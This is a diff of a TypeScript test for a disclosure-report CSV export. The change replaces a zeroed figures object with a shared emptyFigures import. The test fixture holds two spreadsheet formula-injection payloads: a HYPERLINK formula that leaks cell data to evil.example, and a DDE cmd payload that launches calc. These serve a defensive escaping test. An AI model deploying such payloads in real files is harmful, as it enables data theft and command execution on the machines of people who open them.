@@ -24,6 +24,7 @@ import {
   saveReportFigures,
 } from "@/lib/disclosure/annualReports";
 import { publishedReportCsv } from "@/lib/disclosure/publishedReportCsv";
+import { emptyFigures } from "@/lib/disclosure/reportFigures";
 import { getT } from "@/lib/i18n/server";
 import { saveDisclosureSettings } from "@/lib/settings/queries";
 import { saveCalendarOverrides } from "@/lib/deadlines/saveCalendarOverrides";
@@ -284,19 +285,7 @@ describe("the staff pages for annual reports and disclosure settings", () => {
 
   it("export a published report's text as cells no spreadsheet reads as a formula", async () => {
     const hostile = {
-      part2: {
-        regulations: { made: 0, repealed: 0, inForce: 0 },
-        normativeDocuments: { made: 0, repealed: 0, inForce: 0 },
-        licensing: 0,
-        punishment: 0,
-        enforcement: 0,
-        feesTenThousandYuan: 0,
-      },
-      part4: {
-        review: { upheld: 0, corrected: 0, other: 0, pending: 0, total: 0 },
-        directSuit: { upheld: 0, corrected: 0, other: 0, pending: 0, total: 0 },
-        suitAfterReview: { upheld: 0, corrected: 0, other: 0, pending: 0, total: 0 },
-      },
+      ...emptyFigures,
       problems: '=HYPERLINK("http://evil.example/?"&A1,"详情")',
       other: "-2+3;=cmd|' /C calc'!A0",
     };
